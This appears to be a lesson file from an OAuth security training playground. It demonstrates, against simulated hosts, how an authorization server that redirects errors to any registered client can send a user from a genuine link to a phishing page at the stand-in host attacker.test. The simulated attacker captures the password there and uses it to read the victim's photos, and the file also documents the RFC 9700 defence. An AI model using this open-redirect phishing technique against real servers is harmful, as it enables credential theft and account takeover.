"""The authorization server as an open redirector: a deliberately wrong
authorization request for the attacker's own registered client sends the
user, from a link to the real server, straight to a phishing page
(RFC 9700 4.11.2)."""

from urllib.parse import urlencode, urlsplit

from playground import Lesson

PHISHING = "https://attacker.test/callback"
# A scope no client may ask for: the request fails before anyone signs in.
BOGUS_SCOPE = "account.verify"

lesson = Lesson(
    "The authorization server as an open redirector",
    level="intermediate",
    kind="attack",
    weakness="as.redirect_errors_to_any_client",
    summary=(
        "Mallory registered PhotoPrintz by open registration, with a redirect "
        "URI on her own site. She mails Alice a link to the real authorization "
        "server that asks, as PhotoPrintz, for a scope that does not exist. "
        "The request fails at once, and a server that sends every error "
        "straight back to the client's redirect URI takes Alice from a link "
        "to auth.photos.test to Mallory's copy of its sign-in page. Alice "
        "types her password there."
    ),
    defence="""
**Redirect automatically only to redirect URIs the server trusts.**

- RFC 9700 4.11.2: an attacker "could also utilize a correctly registered
  redirection URI to perform phishing attacks", for example by registering a
  client through dynamic registration and sending "an erroneous
  authorization request, e.g., by using an invalid scope value". The
  authorization server "SHOULD only automatically redirect the user agent if
  it trusts the redirection URI. If the URI is not trusted, the
  authorization server MAY inform the user and rely on the user to make the
  correct decision."
- Here the server trusts the redirect URIs of the clients its operators
  verified, not those of open registration. For PhotoPrintz it answers
  **400** with a page that names the error (`invalid_scope`), says the
  application is not verified, and shows the exact address it would send
  Alice to, with a link she must choose to follow. The server logs
  `authorization_error.not_redirected`.
- The other cases of RFC 9700 4.11.2: a silent request (`prompt=none`) that
  fails is shown the same way, not redirected. A denied consent still
  redirects, but the consent page has told Alice the address ("You will be
  sent back to ...") before she decides. The RFC also asks the server to
  "always authenticate the user first" before redirecting, except for
  silent authentication; this server relies instead on trusting only
  verified clients' redirect URIs (attacks 02 and 09b show it redirecting
  an error to a verified client before anyone signs in).
- RFC 6749 4.1.2.1 already forbids redirecting for an unknown client or an
  unregistered redirect URI; this attack needs neither, so that rule alone
  is not enough.
- Users: a link to the right server can still end on the wrong one. Type
  passwords only where the address bar shows the real server (a password
  manager does this check for you).
""",
)


@lesson.step("Mallory's client is registered, but not verified")
def mallorys_client(run):
    """
    **PhotoPrintz** is a real client of the real authorization server:
    Mallory registered it through open registration, with the redirect URI
    `https://attacker.test/callback`. Nobody at the server reviewed it, and
    its record says so: *not verified*.

    Read the checks: a registered client, its redirect URI on Mallory's
    site, not verified.
    """
    client = run.store.client("photo-printz")
    run.check(
        "PhotoPrintz is registered, its redirect URI on attacker.test",
        client is not None and client.redirect_uris == (PHISHING,),
    )
    run.check(
        "it came from open registration: not verified",
        client is not None and not client.verified,
    )


@lesson.step("Mallory mails Alice a link to the real server")
def the_link(run):
    """
    Mallory writes an authorization request for PhotoPrintz with its
    registered redirect URI and one deliberate mistake: the scope
    `account.verify`, which no client may ask for. She mails it to Alice:
    "Confirm your photo account to keep your prints".

    The link really points at `https://auth.photos.test/authorize?...`, so
    Alice, who checks links before she clicks, sees nothing wrong (RFC 9700
    4.11.2: "attackers could try to utilize a user's trust in the
    authorization server (and its URL in particular)").
    """
    params = {
        "response_type": "code",
        "client_id": "photo-printz",
        "redirect_uri": PHISHING,
        "scope": BOGUS_SCOPE,
        "state": "confirm-account",
    }
    run.link = f"{run.issuer}/authorize?{urlencode(params)}"
    run.check(
        "the link's host is the real authorization server",
        urlsplit(run.link).netloc == "auth.photos.test",
    )


@lesson.step("Alice opens the link")
def alice_opens_it(run):
    """
    The server checks the request: the client is known and the redirect URI
    is registered for it, but no such scope exists: `invalid_scope`. No
    sign-in page, no consent page.

    - **Weakness on**: the server sends the error to the client at once:
      **302** to `https://attacker.test/callback?error=invalid_scope&...`.
      Alice's browser follows it and shows Mallory's page, a copy of the
      server's sign-in page: "Your session has expired. Sign in to
      https://auth.photos.test to continue." Only the address bar says
      `attacker.test`.
    - **Defended**: PhotoPrintz is not verified, so the server does not
      redirect. It answers **400** with its own page, "Check where you are
      going": the error, the application's name, and the address it would
      send Alice to, `https://attacker.test/callback?error=...`, behind a
      link "Continue to attacker.test" that Alice would have to choose.
    """
    run.browser.open(run.link)
    if run.weakness_on:
        location = run.browser.redirect_location or ""
        run.check("the server answers 302", run.browser.status == 302)
        run.check(
            "to Mallory's site, with error=invalid_scope",
            location.startswith(f"{PHISHING}?error=invalid_scope"),
        )
        run.browser.follow_redirect()
        run.check(
            "Alice's browser shows a page titled like the server's sign-in page",
            run.browser.page.title == "Sign in - Playground Authorization Server",
        )
        run.check(
            "served by attacker.test",
            urlsplit(run.browser.address).netloc == "attacker.test",
        )
    else:
        text = run.browser.page.text
        run.check("the server answers 400", run.browser.status == 400)
        run.check("with no redirect", run.browser.redirect_location is None)
        run.check(
            "its page names the error and the unverified application",
            "invalid_scope" in text
            and "PhotoPrintz is not an application this server has verified" in text,
        )
        run.check(
            "and the exact address it would send Alice to",
            f"{PHISHING}?error=invalid_scope" in text,
        )
        events = run.events_named("authorization_error.not_redirected")
        run.check(
            "the server logged authorization_error.not_redirected for photo-printz",
            len(events) == 1 and events[0].client_id == "photo-printz",
        )


@lesson.step("Alice signs in where she landed")
def alice_signs_in(run):
    """
    - **Weakness on**: Alice types `alice` / `wonderland` into the form in
      front of her. Read the request: `POST /sign-in` to `attacker.test`,
      with her password in the body. Mallory's page thanks her.
    - **Defended**: the page in front of Alice is the real server's, and it
      told her the truth: the link leads to `attacker.test`, which she does
      not know. She does not follow it. Nothing reaches Mallory's site.
    """
    if run.weakness_on:
        run.browser.sign_in("alice", "wonderland")
        run.check(
            "the password went to attacker.test",
            run.last_request.host == "attacker.test"
            and run.last_request.form.get("password") == "wonderland",
        )
        run.check(
            "Mallory's site has Alice's password",
            run.attacker.loot("password") == ["wonderland"],
        )
    else:
        run.check(
            "Alice's browser never reached attacker.test",
            not [e for e in run.all_exchanges if e.request.host == "attacker.test"],
        )
        run.check("Mallory has no password", run.attacker.loot("password") == [])


@lesson.step("Mallory signs in as Alice")
def mallory_uses_the_password(run):
    """
    **Weakness on**: in her own browser, Mallory opens an authorization
    request of PhotoPrintz (with PKCE, like any good client) for
    `photos.read`, signs in at the **real** server as `alice` with the
    stolen password, and approves on Alice's behalf. She redeems the code
    with PhotoPrintz's secret and reads Alice's photos. Any other
    application Alice uses with this account is as open to her.

    **Defended**: Mallory has no password; there is nothing to sign in with.
    """
    passwords = run.attacker.loot("password")
    if not run.weakness_on:
        run.check("Mallory has no password to use", passwords == [])
        return
    printz = run.oauth_client("photo-printz")
    mallory = run.attacker.browser
    mallory.open(printz.authorization_url("photos.read", pkce_method="S256"))
    mallory.sign_in("alice", passwords[-1])
    mallory.follow_redirect()
    run.check(
        "the real server's consent page says: signed in as Alice Liddell",
        "Signed in as Alice Liddell" in mallory.page.text,
    )
    mallory.approve()
    code = mallory.redirect_params.get("code", "")
    response = run.attacker.redeem_code(
        code,
        client_id=printz.client_id,
        redirect_uri=printz.redirect_uri,
        client_secret=printz.client_secret,
        code_verifier=printz.pending.code_verifier,
    )
    run.check("the token endpoint answers Mallory 200", response.status_code == 200)
    photos = run.attacker.call_api(
        "/api/photos", run.attacker.stolen.get("access_token", "")
    )
    titles = [photo["title"] for photo in photos.json().get("photos", [])]
    run.check(
        "the photos API gives Mallory Alice's photos",
        photos.status_code == 200 and titles == ["Tea party", "Croquet lawn"],
    )
